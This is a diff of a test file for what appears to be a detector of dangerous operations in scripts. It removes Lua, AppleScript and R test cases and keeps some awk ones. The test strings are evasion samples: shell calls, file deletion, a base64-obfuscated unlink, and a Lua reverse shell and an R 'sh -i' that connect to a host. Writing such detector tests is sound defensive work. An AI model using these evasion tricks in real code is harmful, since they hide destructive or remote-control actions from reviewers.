@@ -1,16 +1,4 @@
-import {
-  code,
-  connects,
-  hidden,
-  remove,
-  removeAll,
-  runFed,
-  shell,
-  shellFed,
-  talks,
-  testLanguage,
-  write,
-} from './testing.ts'
+import { code, remove, runFed, shell, shellFed, testLanguage, write } from './testing.ts'
 
 /** Ways to make a reader look the wrong way. Each of them really runs what is told here. */
 
@@ -181,52 +169,6 @@ testLanguage('awk', {
     ['function f(x) { return x } BEGIN { f(system("id")) }', shell('id')],
     ['BEGIN { printf "%s", system("id") }', shell('id')],
     ['END { while ("id" | getline > 0) ; }', shell('id')],
-  ],
-})
-
-testLanguage('lua', {
-  evasions: [
-    ['os[name]("a")', code],
-    ['local s = "\\\n" os.remove("a") -- "', remove('a')],
-    ['--[=[ ]] os.remove("no") ]=] os.remove("a")', remove('a')],
-    ['goto x ::x:: os.remove("a")', remove('a')],
-    ['x = { os.remove("a"), y = os.remove("b") }', remove('a'), remove('b')],
-    ['io.popen("sh", "w"):write("id")', shellFed('sh', 'id')],
-    ['setmetatable({}, { __index = function() os.remove("a") end })', remove('a')],
-    [
-      'local s = require("socket").tcp(); s:connect("h", 1); while true do local f = io.popen(s:receive()) s:send(f:read("*a")) end',
-      talks('h:1'),
-      shell('…'),
-      { kind: 'code', decoded: false, network: true },
-    ],
-  ],
-})
-
-testLanguage('applescript', {
-  evasions: [
-    ['«event sysoexec» "id"', shell('id')],
-    [
-      "current application's NSFileManager's defaultManager()'s removeItemAtPath:\"/a\" |error|:(missing value)",
-      removeAll('/a'),
-    ],
-    ['do shell script "a" -- x\ndo shell script "b"', shell('a'), shell('b')],
-    ['try\n  do shell script "id"\non error\nend try', shell('id')],
-  ],
-})
-
-testLanguage('r', {
-  evasions: [
-    ['"unlink"("a")', remove('a')],
-    ['(function() unlink("a"))()', remove('a')],
-    ['x <- if (TRUE) unlink("a")', remove('a')],
-    ['local({ unlink("a") })', remove('a')],
-    ['x[1, unlink("a")]', remove('a')],
-    ['tryCatch(unlink("a"), error = function(e) unlink("b"))', remove('a'), remove('b')],
-    ['Reduce(function(a, b) unlink(b), c("x"))', remove('…')],
-    ['writeLines("id", pipe("sh", "w"))', shellFed('sh', 'id')],
-    ['eval(parse(text = rawToChar(base64enc::base64decode("dW5saW5rKCJhIik="))))', hidden('unlink("a")'), remove('a')],
-    ['x = "unlink"; do.call(x, list("a")); get(x)("b")', remove('a'), remove('b')],
-    ['socketConnection("h", 1); system("sh -i")', connects('h:1'), shell('sh -i')],
   ],
 })
 
